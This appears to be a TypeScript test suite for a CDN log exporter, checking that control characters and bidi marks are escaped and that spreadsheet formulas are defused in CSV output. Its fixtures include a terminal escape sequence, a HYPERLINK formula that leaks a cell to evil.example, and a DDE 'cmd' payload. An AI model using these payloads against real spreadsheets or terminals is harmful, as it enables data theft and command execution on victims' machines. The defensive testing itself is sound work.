import fc from 'fast-check';
import Papa from 'papaparse';
import { type CdnLogRecord, emptyRecord } from '../core/record';
import { RecordWriter, type OutputFormat } from './output';

/** What a terminal would act on, as the review listed it: C0, DEL, C1, U+2028/U+2029, bidi controls. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const FORMULA_START = /^[=+\-@\t\r]/;
const T0 = Date.UTC(2026, 10, 22, 10, 0, 0);

function record(fields: Partial<CdnLogRecord> = {}): CdnLogRecord {
  return { ...emptyRecord('gcore', '100001', T0), id: 'r1', ...fields };
}

function written(format: OutputFormat, batches: CdnLogRecord[][], fields?: string[], columns?: string[]): string {
  const out: string[] = [];
  const writer = new RecordWriter(format, fields, (t) => void out.push(t), columns);
  for (const batch of batches) writer.add(batch);
  writer.end();
  return out.join('');
}

function csvRows(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/\n$/, ''), { header: false, delimiter: ',', newline: '\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const COLUMNS = ['timestamp', 'status', 'bytesSent', 'method', 'host', 'path', 'userAgent', 'message', 'attributes'];

/** Text that is mostly the characters the escaping and formula rules are about. */
function anyText() {
  const special = fc.constantFrom(
    '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', "'", ' ', '\\', '\u0000', '\u001b', '\u0007',
    '\u007f', '\u0085', '\u009b', '\u00a0', '\u2028', '\u2029', '\u202a', '\u202e', '\u2066', '\u2069', '\ufeff', '日', '\ud83d\ude00',
  );
  return fc.string({ unit: fc.oneof(special, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 12 });
}

function anyRecord(): fc.Arbitrary<CdnLogRecord> {
  return fc
    .record({
      timestamp: fc.oneof(fc.integer({ min: 0, max: 4_102_444_800_000 }), fc.constantFrom(NaN, 1e20, 1e300, -1e300, 8.64e15 + 1)),
      status: fc.option(fc.integer({ min: -1000, max: 1000 })),
      bytesSent: fc.option(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }))),
      method: fc.option(anyText()),
      host: fc.option(anyText()),
      path: fc.option(anyText()),
      userAgent: fc.option(anyText()),
      message: fc.option(anyText()),
      attributes: fc.dictionary(anyText(), anyText(), { maxKeys: 2 }),
    })
    .map((fields) => record(fields));
}

describe('table output', () => {
  it('shows an escape sequence in a path as \\x1b text instead of retitling and clearing the terminal', () => {
    const text = written('table', [[record({ path: '/a\u001b]0;owned\u0007\u001b[2J\u001b[H' })]], ['path']);
    expect(text).not.toMatch(/\u001b|\u0007/);
    expect(text.split('\n')[2]).toBe('/a\\x1b]0;owned\\x07\\x1b[2J\\x1b[H');
  });

  it('keeps a multi-line NAVER ELSA message on one table line, with the breaks written \\n, \\r and \\t', () => {
    const elsa = { ...emptyRecord('naver-elsa', '8171', T0), message: 'Exception in thread\n\tat a.b(C.java:1)\r\n\tat d.e(F.java:2)' };
    const text = written('table', [[elsa, { ...elsa, timestamp: T0 + 1, message: 'ok' }]], undefined, ['timestamp', 'severity', 'message']);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    expect(lines[2]).toBe('2026-11-22T10:00:00.000Z  info      Exception in thread\\n\\tat a.b(C.java:1)\\r\\n\\tat d.e(F.java:2)');
    expect(lines[3]).toBe('2026-11-22T10:00:00.001Z  info      ok');
  });

  it.each([
    ['DEL', '\u007f', '\\x7f'],
    ['C1 CSI', '\u009b', '\\x9b'],
    ['C1 NEL', '\u0085', '\\x85'],
    ['NUL', '\u0000', '\\x00'],
    ['line separator', '\u2028', '\\u2028'],
    ['paragraph separator', '\u2029', '\\u2029'],
    ['right-to-left override', '\u202e', '\\u202e'],
    ['left-to-right embedding', '\u202a', '\\u202a'],
    ['first strong isolate', '\u2068', '\\u2068'],
    ['pop directional isolate', '\u2069', '\\u2069'],
  ])('writes %s as visible text in table and csv cells', (_name, char, visible) => {
    const r = record({ path: `/x${char}y`, userAgent: `${char}ua` });
    const table = written('table', [[r]], ['path', 'userAgent']);
    expect(table.replace(/\n/g, '')).not.toMatch(UNSAFE);
    expect(table.split('\n')[2]).toBe(`/x${visible}y  ${visible}ua`);
    const csv = written('csv', [[r]], ['path', 'userAgent']);
    expect(csv.replace(/\n/g, '')).not.toMatch(UNSAFE);
    expect(csvRows(csv)).toEqual([['path', 'userAgent'], [`/x${visible}y`, `${visible}ua`]]);
  });

  it('leaves text without control characters as it is, including non-Latin text and backslashes', () => {
    const r = record({ path: '/검색?q=日本語&x=a\\nb', host: 'ñ.example.com' });
    expect(written('table', [[r]], ['host', 'path']).split('\n')[2]).toBe('ñ.example.com  /검색?q=日本語&x=a\\nb');
  });

  it('has exactly a header, a rule and one line per record, and no control character, whatever the cells hold', () => {
    fc.assert(
      fc.property(fc.array(anyRecord(), { maxLength: 8 }), (records) => {
        const text = written('table', [records], COLUMNS);
        expect(text.endsWith('\n')).toBe(true);
        expect(text.slice(0, -1).split('\n')).toHaveLength(2 + records.length);
        expect(text.replace(/\n/g, '')).not.toMatch(UNSAFE);
      }),
      { numRuns: 300 },
    );
  });
});

describe('csv output', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-5', "'-5"],
    ['=1\n=2', "'=1\\n=2"],
  ])('puts a quote mark before a cell starting with a formula character so a spreadsheet shows text: %j', (path, cell) => {
    const csv = written('csv', [[record({ path })]], ['status', 'path']);
    expect(csvRows(csv)[1]).toEqual(['', cell]);
    expect(csv.split('\n')[1]).toMatch(/^,"'/);
  });

  it('writes a leading tab or CR as \\t or \\r text, which a spreadsheet does not read as a formula', () => {
    const csv = written('csv', [[record({ path: '\t=1', host: '\r@x' })]], ['path', 'host']);
    expect(csvRows(csv)[1]).toEqual(['\\t=1', '\\r@x']);
  });

  it('leaves a negative number a number (papaparse escapes strings only), but escapes a negative-looking string', () => {
    const csv = written('csv', [[record({ bytesSent: -5, durationMs: -0.25, host: '-5' })]], ['bytesSent', 'durationMs', 'host']);
    expect(csv.split('\n')[1]).toBe(`-5,-0.25,"'-5"`);
  });

  it('parses back to one row per record with no control character and no live formula, whatever the cells hold', () => {
    fc.assert(
      fc.property(fc.array(fc.array(anyRecord(), { maxLength: 5 }), { maxLength: 4 }), (batches) => {
        const records = batches.flat();
        const rows = csvRows(written('csv', batches, COLUMNS));
        expect(rows).toHaveLength(1 + records.length);
        expect(rows[0]).toEqual(COLUMNS);
        rows.slice(1).forEach((row, i) => {
          const r = records[i] as unknown as Record<string, unknown>;
          expect(row).toHaveLength(COLUMNS.length);
          COLUMNS.forEach((column, c) => {
            const cell = row[c];
            const value = r[column];
            expect(cell).not.toMatch(UNSAFE);
            if (typeof value === 'number') {
              if (column !== 'timestamp') expect(cell).toBe(String(value));
              return;
            }
            expect(cell).not.toMatch(FORMULA_START);
            if (typeof value === 'string' && !UNSAFE.test(value)) expect(cell).toBe(FORMULA_START.test(value) ? `'${value}` : value);
          });
        });
      }),
      { numRuns: 300 },
    );
  });

  it('writes the header once and no empty line for an empty batch', () => {
    const csv = written('csv', [[record({ status: 200 })], [], [record({ status: 404 })]], ['status']);
    expect(csv).toBe('status\n200\n404\n');
  });

  it('writes the header even when no record came', () => {
    expect(written('csv', [], ['status', 'path'])).toBe('status,path\n');
    expect(written('csv', [[]], ['status', 'path'])).toBe('status,path\n');
  });
});

describe('timestamps outside the Date range', () => {
  it.each([
    [1e300, '1e+300'],
    [1e20, '100000000000000000000'],
    [-1e300, '-1e+300'],
    [NaN, 'NaN'],
    [Infinity, 'Infinity'],
  ])('are shown as their number text in table and csv: %p', (timestamp, text) => {
    const records = [record({ timestamp }), record({ timestamp: T0 })];
    const table = written('table', [records], ['timestamp', 'status']).split('\n');
    expect(table.slice(2, 4).sort()).toEqual(['2026-11-22T10:00:00.000Z', text].sort());
    expect(csvRows(written('csv', [records], ['timestamp', 'status'])).slice(1)).toEqual([
      [text, ''],
      ['2026-11-22T10:00:00.000Z', ''],
    ]);
  });

  it('are ISO 8601 up to the edges of the Date range, and number text one past them', () => {
    const csv = written('csv', [[record({ timestamp: 8.64e15 }), record({ timestamp: -8.64e15 }), record({ timestamp: 8.64e15 + 1 })]], ['timestamp']);
    expect(csvRows(csv).slice(1)).toEqual([["'+275760-09-13T00:00:00.000Z"], ["'-271821-04-20T00:00:00.000Z"], ['8640000000000001']]);
  });
});

describe('ndjson output', () => {
  it.each([
    ['C1 NEL', '\u0085', '\\u0085'],
    ['C1 CSI', '\u009b', '\\u009b'],
    ['DEL', '\u007f', '\\u007f'],
    ['line separator', '\u2028', '\\u2028'],
    ['paragraph separator', '\u2029', '\\u2029'],
    ['right-to-left override', '\u202e', '\\u202e'],
    ['first strong isolate', '\u2068', '\\u2068'],
  ])('writes %s as a JSON escape, and the line parses back to the same value', (_name, char, escaped) => {
    const text = written('ndjson', [[record({ path: `/a${char}b`, attributes: { [`k${char}`]: `v${char}` } })]], ['path', 'attributes']);
    expect(text).not.toContain(char);
    expect(text).toBe(`{"path":"/a${escaped}b","attributes":{"k${escaped}":"v${escaped}"}}\n`);
    expect(JSON.parse(text)).toEqual({ path: `/a${char}b`, attributes: { [`k${char}`]: `v${char}` } });
  });

  it('writes no empty line for an empty batch', () => {
    expect(written('ndjson', [[], [record({ status: 200 })], []], ['status'])).toBe('{"status":200}\n');
  });

  it('is exactly JSON.stringify when no such character is present', () => {
    const r = record({ path: '/ok\\u0085', message: 'line\nbreak\u001b' });
    expect(written('ndjson', [[r]])).toBe(JSON.stringify(r) + '\n');
  });

  it('writes one valid JSON line per record with no raw control character, whatever the fields hold', () => {
    fc.assert(
      fc.property(fc.array(fc.array(anyRecord(), { maxLength: 4 }), { maxLength: 4 }), (batches) => {
        const records = batches.flat();
        const text = written('ndjson', batches);
        expect(text.replace(/\n/g, '')).not.toMatch(UNSAFE);
        const lines = text === '' ? [] : text.slice(0, -1).split('\n');
        expect(lines.map((l) => JSON.parse(l))).toEqual(records.map((r) => JSON.parse(JSON.stringify(r))));
      }),
      { numRuns: 200 },
    );
  });
});
